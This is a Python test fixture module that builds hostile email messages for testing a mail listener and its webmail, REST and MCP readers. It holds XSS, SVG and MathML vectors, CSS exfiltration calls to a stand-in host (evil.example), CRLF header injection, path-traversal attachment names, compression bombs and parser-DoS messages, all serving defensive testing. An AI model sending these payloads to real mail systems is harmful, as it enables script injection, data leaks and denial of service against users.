"""Whole hostile messages, as raw RFC 5322 bytes, for the inbound listener and every reader of mail
(REST, MCP, webmail): script and event-handler XSS, SVG and MathML, CSS exfiltration, script and
data: links, malformed MIME, header injection, giant headers, deep nesting, bomb-like attachments,
bad charsets and 8-bit headers, and one message over the listener's size limit.

Each message is built when asked for (`HostileMessage.raw`) by the small builders below, so
importing the corpus costs nothing. Every line stays within SMTP's 998 characters (long headers
are folded), so the listener refuses only the oversize message. "evil.example" stands for a remote
host that must never be asked before consent; each message's Message-ID is <slug@evil.example>."""
import base64
import gzip
import quopri
import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial
from io import BytesIO

from mailcore.tests.xss_corpus import XSS_CORPUS

CRLF = b"\r\n"
MIB = 1024 * 1024
PNG = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
       b"\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82")

XSS = "script and event-handler XSS"
SVG_MATHML = "SVG and MathML tricks"
CSS = "CSS exfiltration"
LINKS = "javascript: and data: links"
MALFORMED = "malformed MIME"
INJECTION = "header injection"
GIANT = "giant headers"
NESTING = "deeply nested multiparts"
BOMB = "bomb-like attachments"
CHARSET = "invalid charsets and 8-bit headers"
OVERSIZE = "oversize"


@dataclass(frozen=True)
class HostileMessage:
    name: str
    category: str
    build: Callable[[], bytes]
    oversize: bool = False  # over the listener's size limit: refused with 552, never stored
    html: bool = True  # the webmail shows an HTML body (in its sandboxed frame)

    @property
    def raw(self) -> bytes:
        return self.build()

    @property
    def message_id(self) -> str:
        return f"<{slug(self.name)}@evil.example>"


def slug(name: str) -> str:
    return re.sub(r"[^a-z0-9]+", "-", name.lower()).strip("-")


# Builders ----------------------------------------------------------------------------------------
# An entity is (header lines, body); a message is the common headers, then its top entity.

Entity = tuple[list[bytes], bytes]


def crlf(text: bytes) -> bytes:
    return re.sub(rb"\r?\n", CRLF, text)


def encode(body: bytes, encoding: str) -> bytes:
    if encoding == "base64":
        return crlf(base64.encodebytes(body))
    if encoding == "quoted-printable":
        return crlf(quopri.encodestring(body)) + CRLF
    return crlf(body) + CRLF


def leaf(content_type: str, body: bytes | str, *, encoding: str = "8bit", headers: tuple[bytes, ...] = ()) -> Entity:
    raw = body.encode() if isinstance(body, str) else body
    return ([f"Content-Type: {content_type}".encode(), f"Content-Transfer-Encoding: {encoding}".encode(), *headers],
            encode(raw, encoding))


def attachment(filename: str, content_type: str, payload: bytes, *, inline_id: str = "") -> Entity:
    disposition = f'inline; filename="{filename}"' if inline_id else f'attachment; filename="{filename}"'
    extra = (f"Content-Disposition: {disposition}".encode(),
             *((f"Content-ID: <{inline_id}>".encode(),) if inline_id else ()))
    return leaf(f'{content_type}; name="{filename}"', payload, encoding="base64", headers=extra)


def multipart(subtype: str, *parts: Entity, boundary: str = "", closed: bool = True) -> Entity:
    """`closed=False` leaves out the closing delimiter."""
    boundary = boundary or f"b-{subtype}-{len(parts)}-{sum(len(body) for _, body in parts) % 99991}"
    body = b"This is a multi-part message in MIME format." + CRLF
    for part in parts:
        body += f"--{boundary}".encode() + CRLF + entity_bytes(part)
    if closed:
        body += f"--{boundary}--".encode() + CRLF
    return [f'Content-Type: multipart/{subtype}; boundary="{boundary}"'.encode()], body


def attached_message(message: bytes) -> Entity:
    return [b"Content-Type: message/rfc822", b"Content-Disposition: attachment"], message


def entity_bytes(entity: Entity) -> bytes:
    header_lines, body = entity
    return CRLF.join(header_lines) + CRLF + CRLF + body


def fold(name: str, words: list[str]) -> bytes:
    """A header made of many words, folded onto lines of about 78 characters."""
    lines, line = [], f"{name}:"
    for word in words:
        if len(line) + 1 + len(word) > 78:
            lines.append(line)
            line = ""
        line += " " + word
    lines.append(line)
    return "\r\n".join(lines).encode()


def message(name: str, top: Entity, *, subject: bytes | None = None, sender: bytes = b"Eve <eve@evil.example>",
            extra: tuple[bytes, ...] = (), message_id: bytes | None = None) -> bytes:
    """A whole message: From, To, Subject (its name unless given), Date, Message-ID, then `extra`."""
    head = [b"From: " + sender, b"To: Ann <ann@example.test>",
            b"Subject: " + (subject if subject is not None else f"Hostile: {name}".encode()),
            b"Date: Wed, 04 Mar 2026 05:00:00 +0000",
            b"Message-ID: " + (message_id or f"<{slug(name)}@evil.example>".encode()), b"MIME-Version: 1.0", *extra]
    whole = CRLF.join(head) + CRLF + entity_bytes(top)
    return whole if whole.endswith(CRLF) else whole + CRLF  # as SMTP delivers it


def text_and_html(text: str, html: str, *, encoding: str = "quoted-printable") -> Entity:
    return multipart("alternative", leaf("text/plain; charset=utf-8", text, encoding=encoding),
                     leaf("text/html; charset=utf-8", html, encoding=encoding))


# The ways an HTML body travels: alone, as the alternative to text (quoted-printable or base64),
# and in multipart/related beside an inline image. The XSS vectors are spread over all four.

def html_alone(name: str, html: str) -> bytes:
    return message(name, leaf("text/html; charset=utf-8", html))


def html_alternative_qp(name: str, html: str) -> bytes:
    return message(name, text_and_html(f"Text of {name}", html))


def html_alternative_base64(name: str, html: str) -> bytes:
    return message(name, text_and_html(f"Text of {name}", html, encoding="base64"))


def html_related(name: str, html: str) -> bytes:
    return message(name, multipart("related", leaf("text/html; charset=utf-8", html + '<img src="cid:dot@x">',
                                                   encoding="base64"),
                                   attachment("dot.png", "image/png", PNG, inline_id="dot@x")))


HTML_WRAPPERS = (html_alone, html_alternative_qp, html_alternative_base64, html_related)


def html_message(name: str, category: str, vector: str, wrapper=html_alone) -> HostileMessage:
    """The vector after a first paragraph naming it."""
    return HostileMessage(name, category, partial(wrapper, name, f"<p>{name}</p>{vector}"))


# SVG, MathML, CSS and links beyond the sanitizer's XSS corpus ------------------------------------

SVG_MATHML_VECTORS = [
    ("svg foreignObject", '<svg><foreignObject><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'
                          '<body onload="alert(1)"></body></foreignObject></svg>'),
    ("svg animate href", '<svg><a><animate attributeName="href" values="javascript:alert(1)"/>'
                         '<text x="20" y="20">click</text></a><image href="https://evil.example/svg.png"/></svg>'),
    ("svg style mXSS", '<svg></p><style><a id="</style><img src=x onerror=alert(1)>"></a></style></svg>'),
    ("mathml href", '<math href="javascript:alert(1)"><mi xlink:href="data:text/html,&lt;script&gt;alert(1)'
                    '&lt;/script&gt;">x</mi><maction actiontype="statusline">y</maction></math>'),
]

CSS_VECTORS = [
    ("attribute selector leak", '<style>input[value^="a"]{background:url(https://evil.example/leak?a)}'
                                'input[value^="b"]{background:url(https://evil.example/leak?b)}</style>'
                                '<input value="a-secret"><p class="x">x</p>'),
    ("font-face unicode-range", "<style>@font-face{font-family:leak;src:url(https://evil.example/font?a);"
                                "unicode-range:U+0061}p{font-family:leak}</style><p>a</p>"),
    ("url in other properties", '<p style="list-style-image:url(https://evil.example/l.png);'
                                "cursor:url(https://evil.example/c.cur),auto;"
                                "border-image:url(https://evil.example/b.png) 30;"
                                "background-image:image-set('https://evil.example/is.png' 1x)\">x</p>"),
    ("escaped url functions", '<div style="background:u\\72l(https://evil.example/e.png)">a</div>'
                              '<div style="background-image:&#117;rl(https://evil.example/ent.png)">b</div>'
                              '<div style="background:url&#40;https://evil.example/p.png&#41;">c</div>'),
    ("head stylesheet and import", '<html><head><link rel="stylesheet" href="https://evil.example/s.css">'
                                   '<style>@import "https://evil.example/i.css";</style></head>'
                                   "<body><p>styled</p></body></html>"),
]

LINK_VECTORS = [
    ("data and javascript variants",
     '<a href="data:text/html;charset=utf-8,%3Cscript%3Ealert(1)%3C/script%3E">d</a>'
     '<a href="javascript&colon;alert(1)">c</a><a href="jav&#x0A;ascript:alert(1)">n</a>'
     '<a href="&#1;javascript:alert(1)">x</a><a href="javascript://%0aalert(1)">s</a>'),
    ("image and area schemes", '<img src="javascript:alert(1)"><img src="vbscript:msgbox(1)">'
                               '<map name="m"><area shape="rect" coords="0,0,9,9" href="javascript:alert(1)"></map>'
                               '<iframe src="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    ("xhtml data link", '<a href="data:application/xhtml+xml;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'
                        '<a href="data:image/svg+xml,&lt;svg onload=alert(1)&gt;">y</a>'),
]


# Malformed MIME ----------------------------------------------------------------------------------

def missing_boundary(name: str) -> bytes:
    _, body = multipart("mixed", leaf("text/html", "<p>one</p><script>alert(1)</script>"), boundary="lost")
    return message(name, ([b"Content-Type: multipart/mixed"], body))


def boundary_never_closed(name: str) -> bytes:
    top = multipart("mixed", leaf("text/plain", "first part"),
                    leaf("text/html", '<p>second</p><img src="https://evil.example/unclosed.png">'),
                    ([b"Content-Type: application/pdf", b"Content-Transfer-Encoding: base64"], b"JVBERi0xLj"),
                    boundary="open", closed=False)
    return message(name, top)


def bad_transfer_encoding(name: str) -> bytes:
    html = "<p>bogus</p><script>alert(1)</script><img src=x onerror=alert(1)>"
    return message(name, leaf("text/html; charset=utf-8", html, encoding="x-bogus-encoding"))


def broken_base64(name: str) -> bytes:
    html = ([b"Content-Type: text/html; charset=utf-8", b"Content-Transfer-Encoding: base64"],
            b"PHA+YnJva2VuPC9wPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD4=!!@@##\r\n====\r\nPGltZyBzcmM9eA\r\n")
    file = ([b'Content-Type: application/octet-stream; name="broken.bin"', b"Content-Transfer-Encoding: base64",
             b'Content-Disposition: attachment; filename="broken.bin"'], b"A" + CRLF + b"%%%%" + CRLF)
    return message(name, multipart("mixed", html, file))


def bogus_parameters(name: str) -> bytes:
    html = ([b"Content-Type: text/html; charset=; charset*=''%ZZ; ;;=x; name*0*=utf-8''%E0%A4%A; boundary",
             b"Content-Transfer-Encoding: 8bit"], b"<p>params</p><svg onload=alert(1)>" + CRLF)
    file = ([b'Content-Type: application/x-\x7f; name*=bogus\'\'%0D%0A; name="a"; name="b"',
             b"Content-Disposition: attachment; filename*0*=utf-8''%2e%2e%2f; filename*1=etc%2fpasswd; filename*5=x",
             b"Content-Transfer-Encoding: base64"], b"aGVsbG8=" + CRLF)
    return message(name, multipart("mixed", html, file))


def no_subtype(name: str) -> bytes:
    parts = (([b"Content-Type: text"], b"<p>no subtype</p><script>alert(1)</script>" + CRLF),
             ([b"Content-Type: /"], b"slash only" + CRLF),
             ([b"Content-Type: multipart/"], b"empty subtype" + CRLF),
             ([b"Content-Type: text/html; charset=\"utf-8"], b"<p>unterminated quote</p>" + CRLF))
    return message(name, multipart("mixed", *parts))


def duplicate_content_type(name: str) -> bytes:
    return message(name, ([b"Content-Type: text/plain", b"Content-Type: text/html"],
                          b"<p>which</p><script>alert(1)</script>" + CRLF))


def headers_only(name: str) -> bytes:
    """No blank line, no body, and lines that are not headers."""
    return (f"From: eve@evil.example\r\nTo: ann@example.test\r\nSubject: Hostile: {name}\r\n"
            f"Message-ID: <{slug(name)}@evil.example>\r\nContent-Type: multipart/alternative; boundary=x\r\n"
            "a line that is not a header\r\n: empty name\r\nX-Bad Name: space in name\r\n").encode()


def multipart_transfer_encoded(name: str) -> bytes:
    inner = entity_bytes(text_and_html("inner", "<p>inner</p><script>alert(1)</script>"))
    top = ([b'Content-Type: multipart/mixed; boundary="nope"', b"Content-Transfer-Encoding: base64"],
           crlf(base64.encodebytes(inner)))
    return message(name,
                   multipart("mixed", top, leaf("text/html", "<p>=ZZ=\r\n=</p>=3Cscript=3Ealert(1)=3C/script=3E=",
                                                encoding="quoted-printable"), attached_message(b"not a message")))


def broken_delivery_report(name: str) -> bytes:
    status = ([b"Content-Type: message/delivery-status"],
              b"Reporting-MTA: ;;;\r\n\r\nFinal-Recipient: \xff\xfe\r\nAction: failed\r\nStatus: 9.9.9.9\r\n"
              b"Diagnostic-Code: smtp; <script>alert(1)</script>\r\nOriginal-Recipient: rfc822;\r\n")
    return message(name, (
        [b'Content-Type: multipart/report; report-type=delivery-status; boundary="r"'],
        multipart("report", leaf("text/html", "<p>bounce</p><img src=x onerror=alert(1)>"), status,
                  ([b"Content-Type: text/rfc822-headers"], b"Message-ID: <" + b"x" * 900 + b">\r\n"),
                  boundary="r")[1]))


def broken_feedback_report(name: str) -> bytes:
    report = ([b"Content-Type: message/feedback-report"],
              b"Feedback-Type: abuse\r\nUser-Agent: \x00\r\nVersion: one\r\nOriginal-Rcpt-To: <<<\r\n")
    return message(name, (
        [b'Content-Type: multipart/report; report-type=feedback-report; boundary="f"'],
        multipart("report", leaf("text/plain", "complaint"), report, attached_message(b"Subject: \xff\r\n\r\nx"),
                  boundary="f")[1]))


def hostile_invitation(name: str) -> bytes:
    ics = ("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//evil//EN\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\n"
           "UID:<script>alert(1)</script>\r\nSEQUENCE:99999999999999999999\r\nDTSTART:99991231T230000Z\r\n"
           "DTEND:99991231T235959Z\r\nSUMMARY:<img src=x onerror=alert(1)>\r\n"
           "LOCATION:javascript:alert(1)\r\nDESCRIPTION:<svg onload=alert(1)>\r\n"
           "ORGANIZER;CN=\"<b onmouseover=alert(1)>\":mailto:eve@evil.example\r\n"
           "ATTENDEE;CN=Ann;PARTSTAT=NEEDS-ACTION:mailto:ann@example.test\r\n"
           "URL:javascript:alert(1)\r\nRRULE:FREQ=SECONDLY;INTERVAL=1\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")
    return message(name,
                   multipart("alternative", leaf("text/plain", "You are invited"),
                             leaf("text/html", "<p>invite</p><script>alert(1)</script>"),
                             leaf("text/calendar; method=REQUEST; charset=utf-8", ics)))


def broken_invitation(name: str) -> bytes:
    ics = "BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nDTSTART;TZID=Nowhere/Zone:0000\r\nBEGIN:VEVENT\r\n"
    return message(name,
                   multipart("mixed", leaf("text/calendar; method=REQUEST", ics),
                             attachment("invite.ics", "application/ics", b"BEGIN:VCALENDAR\r\n\x00\xff")))


# Header injection ----------------------------------------------------------------------------------

def encoded_crlf_subject(name: str) -> bytes:
    return message(name, leaf("text/html", f"<p>{name}</p>"),
                   subject=b"=?utf-8?Q?Hello=0D=0ABcc:_victim@example.test=0D=0A=0D=0A<script>alert(1)</script>?=")


def encoded_crlf_from(name: str) -> bytes:
    display = base64.b64encode(b"Evil\r\nX-Injected: yes\r\nBcc: victim@example.test").decode()
    return message(name, leaf("text/html", f"<p>{name}</p>"),
                   sender=f"=?utf-8?B?{display}?= <eve@evil.example>".encode(),
                   extra=(b"Reply-To: =?utf-8?Q?a=0Ab?= <javascript:alert(1)>",))


def nul_bytes(name: str) -> bytes:
    return message(name, leaf("text/html", "<p>nul\x00body</p>"),
                   subject=b"nul\x00byte =?utf-8?Q?and=00encoded?= <script>alert(1)</script>",
                   sender=b"\"Eve\x00\" <eve@evil.example>", extra=(b"X-Nul: \x00\x00\x00",))


def html_in_headers(name: str) -> bytes:
    return message(name, leaf("text/html", f"<p>{name}</p>"),
                   subject=b"<img src=x onerror=alert(1)> {{ 7*7 }} {% debug %}",
                   sender=b'"<script>alert(1)</script>" <eve@evil.example>',
                   extra=(b'Cc: "<svg onload=alert(1)>" <ann@example.test>, javascript:alert(1)',
                          b"In-Reply-To: <x@y> <script>alert(1)</script>",
                          b"References: <\"><img src=x onerror=alert(1)>@evil.example>"))


def attachment_name_injection(name: str) -> bytes:
    files = (([b"Content-Type: text/html", b"Content-Transfer-Encoding: base64",
               b"Content-Disposition: attachment; filename*=utf-8''..%2F..%2Fetc%2Fpasswd%0D%0AX-Injected%3A%201"],
              crlf(base64.encodebytes(b"<script>alert(1)</script>"))),
             ([b"Content-Type: image/svg+xml", b"Content-Transfer-Encoding: base64",
               b'Content-Disposition: attachment; filename="=?utf-8?Q?logo=0D=0A.svg?="'],
              crlf(base64.encodebytes(b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'))),
             ([b"Content-Type: application/octet-stream", b"Content-Transfer-Encoding: base64",
               "Content-Disposition: attachment; filename*=utf-8''%E2%80%AEgpj.exe%E2%80%A8%C2%85".encode()],
              b"TVo=" + CRLF))
    return message(name, multipart("mixed", leaf("text/html", f"<p>{name}</p>"), *files))


# Giant headers -------------------------------------------------------------------------------------

def giant_subject(name: str) -> bytes:
    words = [f"word{n}" for n in range(200 * 1024 // 9)]
    header_lines = fold("Subject", words).split(CRLF, 1)
    return message(name, leaf("text/plain", "a long subject"),
                   subject=header_lines[0][len(b"Subject: "):] + CRLF + header_lines[1])


def many_received(name: str) -> bytes:
    received = tuple(f"Received: from relay{n}.evil.example (relay{n}.evil.example [192.0.2.{n % 250}])\r\n"
                     f" by mx.evil.example; Wed, 04 Mar 2026 05:00:00 +0000".encode() for n in range(2000))
    return message(name, leaf("text/plain", "many hops"), extra=received)


def giant_address_list(name: str, count: int) -> bytes:
    """The standard library's address parser is superlinear: 5,000 addresses take it about 1.5 s,
    20,000 about 15 s, for each reading of the message."""
    return message(name, leaf("text/plain", "many recipients"),
                   extra=(fold("Cc", [f"r{n}@evil.example," for n in range(count)]),
                          fold("X-Encoded", ["=?utf-8?B?PHNjcmlwdD4=?="] * 4000)))


def giant_message_id(name: str) -> bytes:
    """Ids as long as a line allows (folded onto a line of their own), and 3,000 references."""
    long_id = b"<" + b"i" * 900 + b"@" + b"e" * 85 + b">"
    references = fold("References", [f"<ref{n}-{'r' * 40}@evil.example>" for n in range(3000)])
    return message(name, leaf("text/plain", "long ids"), message_id=CRLF + b" " + long_id,
                   extra=(references, b"In-Reply-To:" + CRLF + b" " + long_id))


# Deep nesting --------------------------------------------------------------------------------------

def nested_multiparts(name: str, depth: int) -> bytes:
    entity = leaf("text/html", "<p>the bottom</p><script>alert(1)</script>")
    for level in range(depth):
        entity = multipart("mixed", entity, boundary=f"level{level}")
    return message(name, entity)


def nested_messages(name: str, depth: int) -> bytes:
    inner = message(f"{name} 0", leaf("text/html", "<p>inner</p><img src=x onerror=alert(1)>"))
    for level in range(1, depth):
        inner = message(f"{name} {level}", multipart("mixed", leaf("text/plain", f"level {level}"),
                                                     attached_message(inner)))
    return message(name, multipart("mixed", leaf("text/plain", "outer"), attached_message(inner)))


def sibling_parts(name: str, count: int) -> bytes:
    parts = [attachment(f"p{n}.txt", "text/plain", b"x") if n % 2 else leaf("text/html", f"<p>{n}</p>")
             for n in range(count)]
    return message(name, multipart("mixed", *parts))


# Bomb-like attachments -----------------------------------------------------------------------------

def zeros_attachment(name: str, megabytes: int) -> bytes:
    return message(name, multipart("mixed", leaf("text/html", "<p>zeros</p><img src=x onerror=alert(1)>"),
                                   attachment("zeros.bin", "application/octet-stream", bytes(megabytes * MIB))))


def compressed_bombs(name: str) -> bytes:
    """A zip of 4 x 16 MB and a gzip of 64 MB of zeros, each about 64 KB (the gzip twice, once as HTML)."""
    archive = BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zipped:
        for n in range(4):
            zipped.writestr(zipfile.ZipInfo(f"zeros{n}.txt", date_time=(2026, 3, 4, 5, 0, 0)), bytes(16 * MIB),
                            compress_type=zipfile.ZIP_DEFLATED)
    gzipped = gzip.compress(bytes(64 * MIB), mtime=0)  # the same bytes each time it is built
    return message(name, multipart(
        "mixed", leaf("text/plain", "archives"), attachment("bomb.zip", "application/zip", archive.getvalue()),
        attachment("bomb.gz", "application/gzip", gzipped),
        leaf("text/html", gzipped, encoding="base64", headers=(b"Content-Encoding: gzip",))))


def big_html_body(name: str, megabytes: int) -> bytes:
    line = "<p>" + "A" * 90 + "</p>\n"
    return message(name, leaf("text/html; charset=utf-8", line * (megabytes * MIB // len(line)), encoding="base64"))


def attached_messages_with_attachments(name: str) -> bytes:
    inner = message(f"{name} inner", multipart("mixed", leaf("text/plain", "inner"),
                                               attachment("inner.bin", "application/octet-stream", bytes(MIB // 2))))
    middle = message(f"{name} middle", multipart("mixed", *[attached_message(inner) for _ in range(3)]))
    return message(name, multipart("mixed", leaf("text/plain", "outer"), *[attached_message(middle) for _ in range(2)]))


# Charsets and 8-bit headers -------------------------------------------------------------------------

def charset_message(name: str, charset: str, body: bytes, *, encoding: str = "8bit") -> bytes:
    return message(name, leaf(f"text/html; charset={charset}", body, encoding=encoding))


def utf7_script(name: str) -> bytes:
    return charset_message(name, "utf-7", b"<p>utf-7</p>+ADw-script+AD4-alert(1)+ADw-/script+AD4- "
                                          b"+ADw-img src+AD0-x onerror+AD0-alert(1)+AD4-")


def mis_declared(name: str) -> bytes:
    latin1_in_ascii = leaf("text/html; charset=us-ascii", "<p>caf\u00e9 na\u00efve</p>".encode("latin-1"))
    utf8_as_latin1 = leaf("text/plain; charset=iso-8859-1", "\u2603 \u00e9".encode("utf-8"))
    utf16_without_bom = leaf("text/html; charset=utf-16", "<p>sixteen</p><script>alert(1)</script>".encode("utf-16-le")
                             + b"\x00", encoding="base64")
    return message(name, multipart("mixed", latin1_in_ascii, utf8_as_latin1, utf16_without_bom))


def unknown_charsets(name: str) -> bytes:
    return message(name, multipart(
        "alternative", leaf("text/plain; charset=x-unknown", b"unknown \xff\xfe"),
        leaf("text/html; charset=\"" + "x" * 200 + "\"", b"<p>long name</p>\xc3\x28<script>alert(1)</script>"),
        leaf("text/html; charset=\"\"", b"<p>empty</p>")),
        subject=b"=?x-unknown?Q?unknown?= =?utf-8?B?not base64!?= =?iso-2022-jp?B?GyRCJEgbKEI=?=")


def eight_bit_headers(name: str) -> bytes:
    return message(name, leaf("text/html; charset=utf-8", "<p>8-bit</p>"),
                   subject=b"Caf\xe9 \xff\xfe \xc3\x28 \xe2\x82 <script>",
                   sender=b"\xc9ve \xff <eve@evil.example>",
                   extra=(b"X-Latin: \xe9\xe8\xe0", b"To: \xe2\x98\x83 <snow\xc3\xa9@example.test>"))


def iso_2022_escapes(name: str) -> bytes:
    return charset_message(name, "iso-2022-jp",
                           b"<p>\x1b$B$3$s\x1b(B</p>\x1b$B<script>\x1b(B<img src=x onerror=alert(1)>\x1b(J")


def oversize(name: str) -> bytes:
    """A message just over the listener's size limit."""
    from mailcore.inbound.server import MAX_MESSAGE_BYTES

    return message(name, leaf("text/plain", ("z" * 75 + "\n") * (MAX_MESSAGE_BYTES // 77 + 10)))


# The corpus ----------------------------------------------------------------------------------------

def hostile(name: str, category: str, builder: Callable[..., bytes], *args, html: bool = True,
            oversize: bool = False) -> HostileMessage:
    return HostileMessage(name, category, partial(builder, name, *args), oversize=oversize, html=html)


def svg_inline_and_attached(name: str) -> bytes:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
    return message(name, multipart("related", leaf("text/html", f'<p>{name}</p><img src="cid:s@x">'),
                                   attachment("s.svg", "image/svg+xml", svg, inline_id="s@x"),
                                   attachment("page.html", "text/html", b"<script>alert(3)</script>")))


HOSTILE_MAIL: list[HostileMessage] = [
    *[html_message(f"xss: {name}", XSS, vector, HTML_WRAPPERS[index % len(HTML_WRAPPERS)])
      for index, (name, vector) in enumerate(XSS_CORPUS)],
    *[html_message(f"svg: {name}", SVG_MATHML, vector) for name, vector in SVG_MATHML_VECTORS],
    hostile("svg: scripted svg inline and attached", SVG_MATHML, svg_inline_and_attached),
    *[html_message(f"css: {name}", CSS, vector, HTML_WRAPPERS[index % 2])
      for index, (name, vector) in enumerate(CSS_VECTORS)],
    *[html_message(f"links: {name}", LINKS, vector) for name, vector in LINK_VECTORS],
    hostile("malformed: multipart without boundary", MALFORMED, missing_boundary, html=False),
    hostile("malformed: boundary never closed", MALFORMED, boundary_never_closed),
    hostile("malformed: unknown transfer encoding", MALFORMED, bad_transfer_encoding),
    hostile("malformed: broken base64", MALFORMED, broken_base64),
    hostile("malformed: bogus content-type parameters", MALFORMED, bogus_parameters),
    hostile("malformed: types without subtype", MALFORMED, no_subtype),
    hostile("malformed: two content types", MALFORMED, duplicate_content_type, html=False),
    hostile("malformed: headers only", MALFORMED, headers_only, html=False),
    hostile("malformed: base64 multipart and quoted-printable junk", MALFORMED, multipart_transfer_encoded),
    hostile("malformed: delivery report", MALFORMED, broken_delivery_report),
    hostile("malformed: feedback report", MALFORMED, broken_feedback_report, html=False),
    hostile("malformed: hostile calendar invitation", MALFORMED, hostile_invitation),
    hostile("malformed: broken calendar invitation", MALFORMED, broken_invitation, html=False),
    hostile("injection: CR LF in an encoded subject", INJECTION, encoded_crlf_subject),
    hostile("injection: CR LF in an encoded sender", INJECTION, encoded_crlf_from),
    hostile("injection: NUL bytes in headers", INJECTION, nul_bytes),
    hostile("injection: markup in headers", INJECTION, html_in_headers),
    hostile("injection: attachment file names", INJECTION, attachment_name_injection),
    hostile("giant: 200 KB subject", GIANT, giant_subject, html=False),
    hostile("giant: 2000 Received headers", GIANT, many_received, html=False),
    hostile("giant: 5000 recipients and encoded words", GIANT, giant_address_list, 5000, html=False),
    hostile("giant: Message-ID and References", GIANT, giant_message_id, html=False),
    hostile("nesting: 100 levels of multipart", NESTING, nested_multiparts, 100),
    hostile("nesting: 60 attached messages", NESTING, nested_messages, 60),
    hostile("nesting: 1000 sibling parts", NESTING, sibling_parts, 1000),
    hostile("bomb: 12 MB of zeros", BOMB, zeros_attachment, 12),
    hostile("bomb: zip and gzip", BOMB, compressed_bombs),
    hostile("bomb: 1 MB HTML body", BOMB, big_html_body, 1),
    hostile("bomb: attached messages with attachments", BOMB, attached_messages_with_attachments, html=False),
    hostile("charset: utf-7 script", CHARSET, utf7_script),
    hostile("charset: mis-declared", CHARSET, mis_declared),
    hostile("charset: unknown charsets", CHARSET, unknown_charsets),
    hostile("charset: 8-bit bytes in headers", CHARSET, eight_bit_headers),
    hostile("charset: iso-2022-jp escapes", CHARSET, iso_2022_escapes),
    hostile("oversize: over the size limit", OVERSIZE, oversize, oversize=True, html=False),
]
"""Every message, in the order the tests deliver them (the oversize one last)."""

DELIVERED = [found for found in HOSTILE_MAIL if not found.oversize]
